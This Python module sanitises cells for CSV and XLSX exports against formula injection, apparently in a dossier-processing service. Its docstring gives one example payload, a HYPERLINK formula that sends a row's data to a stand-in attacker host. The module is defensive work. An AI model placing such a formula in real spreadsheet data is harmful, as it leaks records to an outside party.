"""Every spreadsheet and CSV the service writes gets its rows from here.

Dossier codes, procedure and agency names come from outside (the portal, one-door systems, a
webhook). Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one, or the full-width forms ``＝ ＋ － ＠`` that they fold to
ASCII) as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "…")`` in a dossier code would
send the row to anyone who clicks it. As OWASP recommends ("CSV injection"), such text is
prefixed with a single quote, so it is shown as text, the same in CSV and XLSX. Numbers, dates
and booleans are written as they are: they are never read as formulas.

Writers build workbooks with :func:`new_workbook`, add rows with :func:`append_row` and write
CSV with :func:`csv_text`; ``tests/security/test_formula_cells.py`` checks that no other module
creates a workbook or a CSV writer.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any, Final

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS: Final = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE: Final = "'"
# A BOM so that Excel opens the Vietnamese text as UTF-8.
CSV_BOM: Final = "\ufeff"


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could read ``text`` as a formula. Leading spaces do not
    protect it: some programs trim them when importing a CSV."""
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def neutralise(value: Any) -> Any:
    """``value`` as a cell may safely hold it: formula-like text gets a leading quote."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]


def new_workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def _xlsx_value(value: Any) -> Any:
    # Control characters cannot be written in XLSX's XML at all (openpyxl raises): drop them.
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return neutralise(value)


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Add one row; plain values and the values of styled write-only cells are neutralised."""
    row: list[Any] = []
    for value in values:
        if isinstance(value, Cell):
            value.value = _xlsx_value(value.value)
            row.append(value)
        else:
            row.append(_xlsx_value(value))
    sheet.append(row)


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """The rows as CSV text with a BOM, every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(safe_row(row))
    return CSV_BOM + buffer.getvalue()
